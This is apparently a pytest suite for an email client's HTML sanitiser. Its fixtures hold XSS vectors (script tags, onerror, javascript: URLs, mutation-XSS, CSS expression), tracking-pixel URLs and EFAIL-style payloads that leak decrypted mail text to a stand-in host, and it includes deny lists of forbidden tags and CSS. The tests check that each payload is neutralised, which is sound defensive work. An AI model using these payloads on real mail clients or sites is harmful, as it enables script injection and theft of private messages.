"""Hostile HTML: nothing remote in a loadable position, nothing executable, blocked URLs listed.

Every output is checked by parsing it with html.parser (the same parser our second pass uses)
and inspecting every URL-bearing attribute and every style.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from kittiwake.client.mime.safe_html import css_verdict, html_to_text, sanitise

_URL_ATTRS = {"src", "srcset", "href", "background", "poster", "action", "formaction", "data",
              "lowsrc", "dynsrc", "longdesc", "cite", "xlink:href", "codebase", "content",
              "ping", "manifest", "icon", "archive", "classid", "profile", "usemap"}  # fmt: skip
_FORBIDDEN_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
                   "input", "button", "base", "meta", "link", "svg", "math", "textarea",
                   "select", "noscript", "template", "image"}  # fmt: skip
_REMOTE = re.compile(r"(?i)(^|[\s,'\"(])(https?:|//)")
_CSS_LOADING = ("url(", "@import", "image-set")
_CSS_EXECUTING = ("expression", "behavior", "-moz-binding", "javascript:")


def _css_problem(css: str) -> str:
    plain = _css_plain(css)
    if any(bad in plain for bad in _CSS_EXECUTING):
        return "executable CSS"
    if any(bad in plain for bad in _CSS_LOADING):
        return "loading CSS"
    return ""


def _css_plain(css: str) -> str:
    """CSS with comments and escapes undone, written independently of the code under test."""
    css = re.sub(r"/\*.*?(\*/|$)", "", css, flags=re.S)
    css = re.sub(r"\\([0-9a-fA-F]{1,6})\s?", lambda m: chr(int(m.group(1), 16)), css)
    return re.sub(r"\\(.)", r"\1", css).lower()


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _FORBIDDEN_TAGS:
            self.problems.append(f"forbidden tag <{tag}>")
        self.in_style = tag == "style"
        for name, value in attrs:
            value = value or ""
            compact = re.sub(r"[\x00-\x20]", "", value).lower()
            if name.startswith("on"):
                self.problems.append(f"event handler {name} on <{tag}>")
            if name == "style" and _css_problem(compact):
                self.problems.append(f"{_css_problem(compact)} in style of <{tag}>: {value}")
            if name in _URL_ATTRS:
                if compact.startswith(("javascript:", "vbscript:", "data:text", "file:")):
                    self.problems.append(f"dangerous URL {name}={value!r}")
                loading = not (tag == "a" and name == "href")
                if loading and _REMOTE.search(value):
                    self.problems.append(f"remote URL in <{tag} {name}={value!r}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "style":
            self.in_style = False

    def handle_data(self, data: str) -> None:
        if self.in_style and _css_problem(data):
            self.problems.append(f"{_css_problem(data)} in <style>: {data}")


def audit(html: str) -> list[str]:
    auditor = _Audit()
    auditor.feed(html)
    auditor.close()
    return auditor.problems


T = "t.example"
TRACKERS = {
    "img": f'<img src="http://{T}/img.gif" width=1 height=1>',
    "img-https-upper": f'<IMG SRC="HTTPS://{T}/upper.gif">',
    "protocol-relative": f'<img src="//{T}/rel.gif">',
    "srcset": f'<img srcset="http://{T}/a.png 1x, //{T}/b.png 2x" src="cid:ok@x">',
    "picture": f'<picture><source srcset="https://{T}/c.webp" type="image/webp">'
    f'<source src="https://{T}/c2.webp"><img src="cid:logo"></picture>',
    "css-url": f"<div style=\"background-image: url('http://{T}/d.png')\">x</div>",
    "css-url-escaped": f'<div style="background: \\75 rl(http://{T}/e.png)">x</div>',
    "css-url-comment": f'<p style="background:u/**/rl(http://{T}/e2.png)">x</p>',
    "css-image-set": f"<p style=\"background-image:image-set('http://{T}/e3.png' 1x)\">x</p>",
    "style-import": f"<style>@import url(http://{T}/f.css); p {{color: red}}</style><p>x</p>",
    "style-import-string": f"<style>@import 'http://{T}/g.css';</style>",
    "style-block-url": f"<style>body {{ background: url(//{T}/g2.png) }}</style>",
    "background-attr": f'<table background="http://{T}/h.png"><tr>'
    f'<td background="//{T}/i.png">x</td></tr></table>',
    "body-background": f'<body background="http://{T}/j.png">x</body>',
    "video": f'<video poster="http://{T}/k.png" src="http://{T}/l.mp4" controls></video>'
    f'<audio src="http://{T}/l2.mp3"></audio>',
    "link-rel": f'<link rel="stylesheet" href="http://{T}/m.css"><link rel=prefetch '
    f'href="http://{T}/m2">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0; url=http://{T}/n">',
    "input-image": f'<input type="image" src="http://{T}/o.png">',
    "object-embed": f'<object data="http://{T}/p.swf"></object><embed src="http://{T}/q">',
    "iframe": f'<iframe src="http://{T}/r"></iframe><frame src="http://{T}/r2">',
    "svg-image": f'<svg><image href="http://{T}/s.png"/><use xlink:href="http://{T}/u"/></svg>',
    "base": f'<base href="http://{T}/"><img src="relative.gif"><a href="rel">x</a>',
    "lowsrc": f'<img lowsrc="http://{T}/v.gif" dynsrc="http://{T}/w.avi">',
    "efail-double": f'<img src="http://efail.{T}/?secret text follows <b>Dear Bob</b> ...',
    "efail-single": f"<img src='http://efail.{T}/? all the rest </p><p>of the mail",
    "efail-unquoted": f"<img src=http://efail.{T}/?x>secret",
    # The real attack: the closing quote sits in a later MIME part, after the decrypted text.
    "efail-closed": f'<img src="http://efail.{T}/?</p>Dear Bob, the secret is 42<p>">after',
}
XSS = {
    "script": "<script>alert(1)</script>ok",
    "onerror": "<img src=x onerror=alert(1)>",
    "body-onload": "<body onload=alert(1)>x",
    "svg-onload": "<svg onload=alert(1)>",
    "javascript-href": '<a href="javascript:alert(1)">x</a>',
    "javascript-entity-href": '<a href=" jav&#x09;ascript&colon;alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data-svg-img": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "expression": '<div style="width: expression(alert(1))">x</div>',
    "moz-binding": '<div style="-moz-binding: url(x.xml#xss)">x</div>',
    "form": '<form action="http://x/"><button formaction="javascript:alert(1)">b</button></form>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "math": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "style-mxss": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "comment-mxss": "<!--<img src=x onerror=alert(1)>--><p>x</p>",
    "meta-charset": '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    "object": '<object data="javascript:alert(1)"></object>',
    "uppercase-event": "<IMG SRC=# OnMouseOver=alert(1)>",
}


@pytest.mark.parametrize("name", sorted(TRACKERS))
def test_remote_content_is_blocked_by_default(name: str) -> None:
    result = sanitise(TRACKERS[name])
    assert audit(result.html) == []
    assert T not in result.html


@pytest.mark.parametrize("name", sorted(XSS))
def test_script_vectors_are_neutralised(name: str) -> None:
    for allow_remote in (False, True):
        result = sanitise(XSS[name], allow_remote=allow_remote)
        assert audit(result.html) == []


def test_efail_swallowed_text_is_not_sent_anywhere() -> None:
    result = sanitise(TRACKERS["efail-closed"])
    assert "efail" not in result.html
    assert result.html == "<img>after"
    # What a browser would have sent is listed (so the user sees what was blocked), not loaded.
    assert [r.url for r in result.remote] == [
        f"http://efail.{T}/?</p>Dear Bob, the secret is 42<p>"
    ]
    for name in ("efail-double", "efail-single"):  # unterminated: the tag never completes
        assert "efail" not in sanitise(TRACKERS[name]).html


def test_the_audit_itself_flags_the_raw_fixtures() -> None:
    # Guards the guard: unsanitised input must fail the same audit the output passes.
    never_complete = {"efail-double", "efail-single", "comment-mxss", "data-svg-img"}
    for name, html in {**TRACKERS, **XSS}.items():
        if name not in never_complete:
            assert audit(html), name


def test_blocked_remote_urls_are_listed() -> None:
    listed = set()
    for html in TRACKERS.values():
        listed |= {r.url for r in sanitise(html).remote}
    for expected in ("img.gif", "a.png", "b.png", "c.webp", "d.png", "e.png", "f.css",
                     "g.css", "h.png", "i.png", "k.png", "l.mp4", "m.css", "/n"):  # fmt: skip
        assert any(url.endswith(expected) for url in listed), expected


def test_allow_remote_keeps_remote_content_but_nothing_executable() -> None:
    html = (
        f'<img src="http://{T}/img.gif"><img srcset="https://{T}/a.png 1x">'
        f"<div style=\"background:url('https://{T}/d.png')\">x</div>"
        f'<table background="http://{T}/h.png"><tr><td>x</td></tr></table>'
        f'<video poster="http://{T}/k.png"></video><script>alert(1)</script>'
    )
    result = sanitise(html, allow_remote=True)
    for kept in ("img.gif", "a.png", "d.png", "h.png", "k.png"):
        assert kept in result.html
    assert "script" not in result.html
    assert len(result.remote) == 5


def test_cid_and_inline_raster_data_images_are_kept() -> None:
    png = "data:image/png;base64,iVBORw0KGgo="
    result = sanitise(f'<img src="cid:logo@example.com"><img src="{png}">')
    assert 'src="cid:logo@example.com"' in result.html
    assert png in result.html
    assert result.cid_refs == ("logo@example.com",)
    assert result.remote == ()


def test_safe_css_and_formatting_survive() -> None:
    html = '<style>p { color: red }</style><p style="color: blue; font-weight: bold">x</p>'
    result = sanitise(html)
    assert "<style>p { color: red }</style>" in result.html
    assert 'style="color: blue; font-weight: bold"' in result.html


def test_links_showing_another_host_are_flagged() -> None:
    html = (
        '<a href="http://evil.example/login">https://www.paypal.com/signin</a>'
        '<a href="https://www.paypal.com/x">paypal.com</a>'
        '<a href="https://paypal.com.evil.example/">paypal.com</a>'
        '<a href="https://tracker.example/r?u=1">Read more</a>'
        '<a href="mailto:x@evil.example">help@bank.example</a>'
    )
    flagged = sanitise(html).suspicious_links
    assert [(s.text_host, s.href_host) for s in flagged] == [
        ("www.paypal.com", "evil.example"),
        ("paypal.com", "paypal.com.evil.example"),
        ("bank.example", "evil.example"),
    ]
    # Links themselves stay clickable (the reader warns before opening).
    assert 'href="http://evil.example/login"' in sanitise(html).html


def test_css_verdict_undoes_escapes_and_comments() -> None:
    assert css_verdict("background: \\75\\72\\6c(x)")[1]
    assert css_verdict("background: u/**/rl(x)")[1]
    assert css_verdict("width: exp\\ression(1)")[0]
    assert css_verdict("color: red") == (False, False, [])


def test_html_to_text_skips_scripts_and_styles() -> None:
    text = html_to_text("<style>p{}</style><p>Hello <b>you</b></p><script>x()</script><p>2</p>")
    assert text == "Hello you\n\n2\n"


def test_pathological_nesting_is_flattened_not_choked_on() -> None:
    from kittiwake.client.mime.bounds import MAX_HTML_DEPTH

    result = sanitise("<div>" * 50_000 + "deep text")
    assert "deep text" in result.html
    assert result.html.count("<div>") <= MAX_HTML_DEPTH
    assert audit(result.html) == []


def test_too_many_tags_are_cut_and_reported() -> None:
    from kittiwake.client.mime.bounds import MAX_HTML_TAGS

    result = sanitise("<b>x</b>" * MAX_HTML_TAGS)
    assert result.truncated
    assert result.html.count("<b>") <= MAX_HTML_TAGS // 2 + 1
    assert not sanitise("<b>x</b>" * 10).truncated


def test_safe_text_of_sanitised_html() -> None:
    from kittiwake.client.mime.safe_html import safe_text

    result = sanitise("<style>p{color:red}</style><p>a &amp; b</p><div>c<br>d</div>")
    assert safe_text(result.html) == "a & b\n\nc\nd\n"


# --- property: any mix of hostile fragments still audits clean ------------------------------

from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

_FRAGMENTS = [*TRACKERS.values(), *XSS.values(), "<", ">", '"', "'", "=", "/", "<!--", "-->",
              "<style>", "</style>", "url(", "\\75 rl(", "http://evil.example/", "<a href=",
              "<img src=", " srcset=", " style=", "&#x3c;", "\x00", "<svg>", "<math>", "</p>",
              "<table>", "<noscript>", "<textarea>", "<![CDATA[", "]]>", "javascript:",
              "data:text/html,", "\t", "\n"]  # fmt: skip


@settings(derandomize=True, max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_FRAGMENTS), min_size=1, max_size=12), st.booleans())
def test_any_mix_of_hostile_fragments_is_sanitised(parts: list[str], allow_remote: bool) -> None:
    result = sanitise("".join(parts), allow_remote=allow_remote)
    problems = audit(result.html)
    if allow_remote:  # remote content is what that mode is for; executable content is not
        problems = [p for p in problems if not p.startswith(("remote URL", "loading CSS"))]
    assert problems == []
